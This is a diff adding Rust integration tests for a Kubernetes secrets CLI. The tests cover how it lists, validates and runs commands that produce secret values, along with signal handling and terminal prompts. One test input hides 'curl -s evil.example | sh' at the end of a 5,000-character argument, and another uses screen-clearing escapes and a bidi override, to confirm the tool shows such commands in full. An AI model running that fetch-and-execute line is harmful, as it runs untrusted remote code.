@@ -356,3 +356,303 @@ fn no_program_runs_for_a_run_the_kubeconfig_stops() {
     assert_eq!(run.code, Some(2), "{}", run.stderr);
     assert_eq!(runs(&op), 0);
 }
+
+/// Without `--allow-commands`, every command is listed whole: past any
+/// count of items (more than the 50 problems a file shows), past any
+/// column (an argument of thousands of characters, whose end is what
+/// matters), and escaped (a sequence that would clear the screen).
+#[test]
+fn the_refusal_lists_every_command_whole_however_many_and_long() {
+    let env = TestEnv::new();
+    let mut body = String::from("  - name: many\n    kind: env\n    fromCommand:\n");
+    for i in 0..60 {
+        body.push_str(&format!(
+            "      - key: K{i}\n        command: [./op{i}, read, \"op://ml/item-{i}\"]\n"
+        ));
+    }
+    let long = format!("{} && curl -s evil.example | sh", "x".repeat(5_000));
+    body.push_str(&format!(
+        "  - name: long\n    kind: env\n    fromCommand:\n      - key: L\n        command: [sh, -c, \"{long}\"]\n"
+    ));
+    body.push_str(
+        "  - name: esc\n    kind: env\n    fromCommand:\n      - key: E\n        command: [printf, \"\\e[2J\\e[Hok\\u202e\\u200b\"]\n",
+    );
+    let file = manifest(&env, &body);
+    let run = env.run(&["diff", "-f", &file]);
+    run.failure().stderr_has("would run 62 commands");
+    for i in 0..60 {
+        run.stderr_has(&format!(
+            "secret `many` would run `./op{i} read op://ml/item-{i}` for its key `K{i}`"
+        ));
+    }
+    run.stderr_has(&format!(
+        "secret `long` would run `sh -c '{long}'` for its key `L`"
+    ))
+    .stderr_has(
+        r"secret `esc` would run `printf '\u{1b}[2J\u{1b}[Hok\u{202e}\u{200b}'` for its key `E`",
+    );
+    assert!(
+        !run.stderr.contains(['\u{1b}', '\u{202e}', '\u{200b}']),
+        "{}",
+        run.stderr
+    );
+    env.assert_no_requests();
+}
+
+/// An `env` secret's value becomes an environment variable: from a
+/// command as from `inline` or `fromEnv`, it must be UTF-8 text without
+/// NUL. Refused before anything is sent, the value never shown.
+#[test]
+fn an_env_value_from_a_command_must_be_text_without_nul() {
+    let env = TestEnv::new();
+    let value = env.canary("binary");
+    script(&env, "nul", &format!("printf '%s\\000x' '{value}'"));
+    script(&env, "latin1", &format!("printf '%s\\377' '{value}'"));
+    let cases = [
+        ("./nul", "holds a NUL byte"),
+        ("./latin1", "is not UTF-8 text"),
+    ];
+    for (program, why) in cases {
+        let file = manifest(
+            &env,
+            &format!(
+                "  - name: s\n    kind: env\n    fromCommand:\n      - key: K\n        command: [{program}]\n"
+            ),
+        );
+        let run = allowed(&env, &["apply", "-f", &file, "--yes"]);
+        run.failure()
+            .stderr_has(&format!(
+                "secret `s`: the command for key `K` (`{program}`) printed a value that cannot be used: the value of the key `K` {why}"
+            ))
+            .stderr_has("`default` secret");
+        env.assert_no_requests();
+    }
+    assert!(env.secret(&format!("s-{OWNER}")).is_none());
+    // The same output is a `default` secret's file, every byte kept.
+    for (program, _) in cases {
+        let file = manifest(
+            &env,
+            &format!(
+                "  - name: s\n    fromCommand:\n      - key: K\n        command: [{program}]\n"
+            ),
+        );
+        allowed(&env, &["diff", "-f", &file]).stdout_has("+ K (from command");
+    }
+    // `inline` takes no NUL either (YAML can write one).
+    let file = manifest(
+        &env,
+        "  - name: s\n    kind: env\n    inline:\n      K: \"a\\0b\"\n",
+    );
+    env.run(&["diff", "-f", &file])
+        .failure()
+        .stderr_has("secret `s`: the value of the key `K` holds a NUL byte");
+}
+
+/// SIGTERM, SIGINT or SIGHUP to the tool while a program runs ends the
+/// program and every process it started (its process group), then the
+/// tool by the same signal; nothing is sent. The program writes its pid
+/// and its child's to files; every wait is bounded (a hang catcher, not a
+/// timing assertion).
+#[cfg(target_os = "linux")]
+#[test]
+fn a_signal_to_the_tool_ends_the_running_program_and_its_children() {
+    use std::os::unix::process::ExitStatusExt;
+    let env = TestEnv::new();
+    let dir = env.dir.path().to_path_buf();
+    script(
+        &env,
+        "waits",
+        "echo $$ > program.pid.tmp && mv program.pid.tmp program.pid\nsleep 300 </dev/null >/dev/null 2>&1 &\necho $! > child.pid.tmp && mv child.pid.tmp child.pid\nwait",
+    );
+    let file = manifest(
+        &env,
+        "  - name: s\n    kind: env\n    fromCommand:\n      - key: K\n        command: [./waits]\n        timeout: 10m\n",
+    );
+    for signal in [libc::SIGTERM, libc::SIGINT, libc::SIGHUP] {
+        for pid in ["program.pid", "child.pid"] {
+            let _ = std::fs::remove_file(dir.join(pid));
+        }
+        let out = std::fs::File::create(dir.join("out.txt")).unwrap_or_else(|e| panic!("{e}"));
+        let err = std::fs::File::create(dir.join("err.txt")).unwrap_or_else(|e| panic!("{e}"));
+        let mut cmd = env.command();
+        cmd.args([
+            "-n",
+            &env.namespace,
+            "apply",
+            "-f",
+            &file,
+            "--allow-commands",
+        ])
+        .stdin(std::process::Stdio::null())
+        .stdout(out)
+        .stderr(err);
+        let mut tool = cmd.spawn().unwrap_or_else(|e| panic!("spawn: {e}"));
+        let program = wait_for_pid(&dir.join("program.pid"));
+        let child = wait_for_pid(&dir.join("child.pid"));
+        let tool_pid = i32::try_from(tool.id()).unwrap_or_else(|e| panic!("{e}"));
+        // SAFETY: a signal to the process this test started.
+        assert_eq!(unsafe { libc::kill(tool_pid, signal) }, 0);
+        let status = wait_bounded(&mut tool);
+        for name in ["out.txt", "err.txt"] {
+            env.assert_no_leak(&std::fs::read_to_string(dir.join(name)).unwrap_or_default());
+        }
+        assert_eq!(status.signal(), Some(signal), "{status:?}");
+        for (what, pid) in [("program", program), ("its child", child)] {
+            assert!(
+                gone_within_a_minute(pid),
+                "{what} ({pid}) outlived signal {signal}"
+            );
+        }
+        assert!(env.secret(&format!("s-{OWNER}")).is_none());
+    }
+}
+
+/// The pid a program wrote to `path`, once it is there (up to a minute).
+#[cfg(target_os = "linux")]
+fn wait_for_pid(path: &Path) -> i32 {
+    for _ in 0..600 {
+        if let Some(pid) = std::fs::read_to_string(path)
+            .ok()
+            .and_then(|t| t.trim().parse().ok())
+        {
+            return pid;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    }
+    panic!("{} never appeared", path.display());
+}
+
+/// The tool's exit status, or a failed test (the tool killed) after a
+/// minute.
+#[cfg(target_os = "linux")]
+fn wait_bounded(tool: &mut std::process::Child) -> std::process::ExitStatus {
+    for _ in 0..600 {
+        if let Ok(Some(status)) = tool.try_wait() {
+            return status;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    }
+    let _ = tool.kill();
+    panic!("the tool did not end after the signal");
+}
+
+/// Whether `pid` has ended (or is only a zombie waiting for a parent that
+/// does not reap), polled for up to a minute.
+#[cfg(target_os = "linux")]
+fn gone_within_a_minute(pid: i32) -> bool {
+    for _ in 0..600 {
+        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
+        let zombie = stat
+            .rsplit_once(')')
+            .is_some_and(|(_, rest)| rest.trim_start().starts_with('Z'));
+        if stat.is_empty() || zombie {
+            return true;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    }
+    false
+}
+
+/// On a terminal the program gets it while it runs (its process group is
+/// made the foreground one, as a shell does for a job): it can turn echo
+/// off and read a passphrase, and this tool prints after it. A Ctrl-C
+/// typed there ends the program and then the tool, by SIGINT.
+#[cfg(target_os = "linux")]
+#[test]
+fn on_a_terminal_the_program_may_ask_and_ctrl_c_ends_it_and_the_tool() {
+    use std::io::{Read, Write};
+    use std::os::fd::{FromRawFd, OwnedFd};
+    use std::os::unix::process::{CommandExt, ExitStatusExt};
+    let env = TestEnv::new();
+    let typed = env.canary("typed-on-the-terminal");
+    script(
+        &env,
+        "ask",
+        "stty -echo </dev/tty && printf 'passphrase: ' >/dev/tty && read -r a </dev/tty && stty echo </dev/tty && printf %s \"$a\"",
+    );
+    let file = manifest(
+        &env,
+        "  - name: s\n    kind: env\n    fromCommand:\n      - key: K\n        command: [./ask]\n        timeout: 5m\n",
+    );
+    let task = env.file(
+        "task.yaml",
+        "name: t\nresources:\n  image_id: ubuntu:22.04\n  cpus: 1\n  memory: 1\nrun: echo hi\n",
+    );
+    for (typing, ctrl_c) in [(format!("{typed}\n"), false), ("\u{3}".to_string(), true)] {
+        let (mut master, slave) = {
+            let (mut m, mut s) = (0, 0);
+            // SAFETY: openpty fills the two descriptors; the rest may be null.
+            let made = unsafe {
+                libc::openpty(
+                    &mut m,
+                    &mut s,
+                    std::ptr::null_mut(),
+                    std::ptr::null(),
+                    std::ptr::null(),
+                )
+            };
+            assert_eq!(made, 0, "openpty");
+            // SAFETY: fresh descriptors nothing else owns.
+            unsafe {
+                (
+                    std::fs::File::from(OwnedFd::from_raw_fd(m)),
+                    OwnedFd::from_raw_fd(s),
+                )
+            }
+        };
+        let clone = || slave.try_clone().unwrap_or_else(|e| panic!("{e}"));
+        let mut cmd = env.command();
+        cmd.args(["render-job", "-f"])
+            .arg(&task)
+            .args(["--secrets", &file, "--allow-commands", "-o", "json"])
+            .stdin(clone())
+            .stdout(clone())
+            .stderr(clone());
+        // SAFETY: between fork and exec, only setsid and ioctl: a new
+        // session whose controlling terminal is the pty (standard input).
+        unsafe {
+            cmd.pre_exec(|| {
+                libc::setsid();
+                libc::ioctl(0, libc::TIOCSCTTY, 0);
+                Ok(())
+            });
+        }
+        let mut tool = cmd.spawn().unwrap_or_else(|e| panic!("spawn: {e}"));
+        drop(slave);
+        let (tx, rx) = std::sync::mpsc::channel();
+        let mut reader = master.try_clone().unwrap_or_else(|e| panic!("{e}"));
+        std::thread::spawn(move || {
+            let mut buf = [0u8; 4096];
+            while let Ok(n) = reader.read(&mut buf) {
+                if n == 0 || tx.send(buf[..n].to_vec()).is_err() {
+                    break;
+                }
+            }
+        });
+        let mut seen = Vec::new();
+        while !String::from_utf8_lossy(&seen).contains("passphrase: ") {
+            match rx.recv_timeout(std::time::Duration::from_secs(60)) {
+                Ok(bytes) => seen.extend(bytes),
+                Err(_) => {
+                    let _ = tool.kill();
+                    panic!("no prompt: {}", String::from_utf8_lossy(&seen));
+                }
+            }
+        }
+        master
+            .write_all(typing.as_bytes())
+            .unwrap_or_else(|e| panic!("{e}"));
+        let status = wait_bounded(&mut tool);
+        while let Ok(bytes) = rx.recv_timeout(std::time::Duration::from_millis(500)) {
+            seen.extend(bytes);
+        }
+        let shown = String::from_utf8_lossy(&seen);
+        env.assert_no_leak(&shown);
+        if ctrl_c {
+            assert_eq!(status.signal(), Some(libc::SIGINT), "{status:?}\n{shown}");
+        } else {
+            assert!(status.success(), "{status:?}\n{shown}");
+            assert!(shown.contains("\"secretKeyRef\""), "{shown}");
+        }
+    }
+}
